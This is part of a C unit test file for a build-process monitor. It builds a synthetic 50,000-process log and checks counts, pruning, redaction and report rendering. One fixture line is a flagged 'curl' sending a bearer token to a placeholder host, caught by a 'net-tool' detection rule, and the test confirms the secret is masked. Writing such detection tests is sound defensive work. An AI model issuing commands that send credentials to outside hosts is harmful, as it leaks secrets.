	text = read_text(o->json);
	assert_string_equal(text, want_json);
	free(text);
	free(want_text);
	free(want_md);
	free(want_json);
}

/*
 * 50,000 processes: make -> 100 sh -> 499 cc each (plus one flagged curl
 * deep in the middle, and 3 still running). Counts exact; the table stays
 * under its cap; the flagged process survives pruning; the tree folds.
 */
#define BIG_SH 100
#define BIG_CC 499

static void write_big_log(const char *path)
{
	FILE *f = fopen(path, "w");
	unsigned long seq = 0, pid = 10, sh, cc, shpid, start;

	assert_non_null(f);
	fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":1,\"start_ns\":1,\"argv\":[\"make\",\"-j64\"],"
		"\"exe\":\"/usr/bin/make\"}\n", ++seq);
	for (sh = 0; sh < BIG_SH; sh++) {
		shpid = pid++;
		fprintf(f, "{\"seq\":%lu,\"type\":\"fork\",\"pid\":%lu,\"start_ns\":%lu,"
			"\"parent_pid\":1,\"parent_start_ns\":1}\n", ++seq, shpid, shpid * 10);
		fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":%lu,\"start_ns\":%lu,"
			"\"exe\":\"/usr/bin/dash\",\"argv\":[\"sh\",\"-c\",\"cc -c f%lu.c\"]}\n",
			++seq, shpid, shpid * 10, sh);
		for (cc = 0; cc < BIG_CC; cc++) {
			start = pid * 10;
			fprintf(f, "{\"seq\":%lu,\"type\":\"fork\",\"pid\":%lu,\"start_ns\":%lu,"
				"\"parent_pid\":%lu,\"parent_start_ns\":%lu}\n", ++seq, pid, start, shpid,
				shpid * 10);
			if (sh == BIG_SH / 2 && cc == BIG_CC / 2) {
				fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":%lu,\"start_ns\":%lu,"
					"\"exe\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-H\","
					"\"Authorization: Bearer TOPSECRET\",\"https://x\"]}\n",
					++seq, pid, start);
				fprintf(f, "{\"seq\":%lu,\"type\":\"verdict\",\"rule\":\"net-tool\","
					"\"severity\":\"medium\",\"rule_action\":\"alert\",\"action\":"
					"\"alert\",\"pid\":%lu,\"start_ns\":%lu,\"argv\":[\"curl\"]}\n",
					++seq, pid, start);
			} else {
				fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":%lu,\"start_ns\":%lu,"
					"\"exe\":\"/usr/bin/cc\",\"argv\":[\"cc\",\"-c\",\"f%lu_%lu.c\"]}\n",
					++seq, pid, start, sh, cc);
			}
			if (sh != 7 || cc >= 3)
				fprintf(f, "{\"seq\":%lu,\"type\":\"exit\",\"pid\":%lu,\"start_ns\":%lu,"
					"\"exit_code\":%lu}\n", ++seq, pid, start, cc % 2);
			pid++;
		}
		fprintf(f, "{\"seq\":%lu,\"type\":\"exit\",\"pid\":%lu,\"start_ns\":%lu,"
			"\"exit_code\":0}\n", ++seq, shpid, shpid * 10);
	}
	fprintf(f, "{\"seq\":%lu,\"type\":\"exit\",\"pid\":1,\"start_ns\":1,\"exit_code\":0}\n", ++seq);
	fprintf(f, "{\"seq\":%lu,\"type\":\"summary\",\"command\":[\"make\",\"-j64\"],"
		"\"exit_status\":0}\n", ++seq);
	assert_int_equal(fclose(f), 0);
}

static void test_fifty_thousand_processes(void **state)
{
	const unsigned long procs = 1 + BIG_SH + BIG_SH * BIG_CC;
	struct out_files *o = *state;
	struct json_object *j;
	struct report r;
	char *line = NULL, *text, *js, *s, want[160];
	const char *why;
	size_t cap = 0;
	ssize_t len;
	unsigned lines = 0;
	FILE *f;

	assert_true(procs >= 50000);
	write_big_log(o->events);

	/* memory: the table never holds much more than its cap */
	assert_int_equal(report_init(&r), 0);
	f = fopen(o->events, "r");
	assert_non_null(f);
	while ((len = getline(&line, &cap, f)) >= 0) {
		assert_int_equal(report_feed(&r, line, (size_t)len, &why), 0);
		assert_true(r.procs.count <= r.procs.max_exited + BIG_SH + 2);
	}
	fclose(f);
	free(line);
	assert_int_equal(r.processes, procs);
	assert_int_equal(r.forks, procs - 1);
	assert_int_equal(r.execs, procs);
	assert_int_equal(r.exits, procs - 3);
	assert_int_equal(r.verdicts, 1);
	assert_true(r.procs.pruned > 0);
	report_free(&r);

	text = render(o, false, false);
	for (s = text; *s; s++)
		lines += *s == '\n';
	assert_true(lines < 420);
	assert_non_null(strstr(text, "! "));
	assert_non_null(strstr(text, "curl -H Authorization: Bearer ***"));
	assert_null(strstr(text, "TOPSECRET"));
	assert_non_null(strstr(text, " more processes\n"));
	snprintf(want, sizeof(want), "buildwarden: %lu processes, %lu execs, 0 failed execs, "
		 "3 still running; lost events: 0; passed, exit status 0\n", procs, procs);
	assert_non_null(strstr(text, want));
	free(text);
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_int_equal(json_object_get_int(get(j, "counts.processes")), procs);
	assert_int_equal(json_object_get_int(get(j, "counts.exits")), procs - 3);
	assert_true(json_object_get_boolean(get(j, "complete")));
	json_object_put(j);
	free(js);
	s = read_text(o->md);
	check_mermaid(s, 3);
	free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_text_tree, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_markdown, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_json_summary, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_tracked_changed, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_trace_id, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_no_redact, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_incomplete_log, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_malformed_lines, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_live, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_lineview_same_report, setup_files,
						teardown_files),
		cmocka_unit_test(test_path_lookups),
		cmocka_unit_test_setup_teardown(test_review_json, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_review_markdown_text, setup_files,
						teardown_files),
		cmocka_unit_test_setup_teardown(test_review_bounds, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_agent_stopped_title, setup_files,
						teardown_files),
		cmocka_unit_test_setup_teardown(test_cut_log, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_calls_dropped, setup_files, teardown_files),
		cmocka_unit_test_setup_teardown(test_fifty_thousand_processes, setup_files,
						teardown_files),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
